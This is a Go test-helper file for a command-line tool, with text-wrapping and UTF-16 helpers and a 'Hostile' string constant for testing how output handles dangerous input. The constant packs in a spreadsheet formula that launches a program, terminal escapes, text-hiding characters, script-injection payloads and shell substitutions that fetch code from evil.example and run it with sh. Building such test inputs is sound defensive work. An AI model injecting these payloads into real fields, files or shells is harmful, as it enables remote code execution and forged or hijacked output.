// SPDX-License-Identifier: Apache-2.0

package clitest

import (
	"encoding/binary"
	"strings"
	"unicode/utf16"
)

// Wrapped returns a text with a line break after each number of columns.
func Wrapped(text string, columns int, lineBreak string) string {
	var out strings.Builder
	for i, c := range []byte(text) {
		if i > 0 && i%columns == 0 {
			out.WriteString(lineBreak)
		}
		out.WriteByte(c)
	}
	return out.String()
}

// UTF16 returns a text in UTF-16, with a byte order mark in front where mark is true.
func UTF16(order binary.AppendByteOrder, mark bool, text string) string {
	var out []byte
	if mark {
		text = "\ufeff" + text
	}
	for _, unit := range utf16.Encode([]rune(text)) {
		out = order.AppendUint16(out, unit)
	}
	return string(out)
}

// Hostile is a text with one example of all that acts where it is shown: a formula, escape sequences in both forms, characters that turn or hide text, all line
// breaks, the end of a script, and what a shell runs.
const Hostile = "=cmd|' /C calc'!A0\x1b[2J\x1b]0;x\x07\u009b2J\x7f\u202e\u2066\u200f\u061c\u200b\u00ad\u034f\ufeff\U000e0041\U000e0100\ufe00\x00\r\nFORGED a\rFORGED b\vFORGED c\fFORGED d\u0085FORGED e\u2028FORGED f\u2029FORGED g" +
	"\tx;=1+1;\uff1d1          Ready   </script><script>alert(1)</script><img src=x onerror=alert(1)>$(curl evil.example|sh)`curl evil.example`'; curl evil.example | sh #"
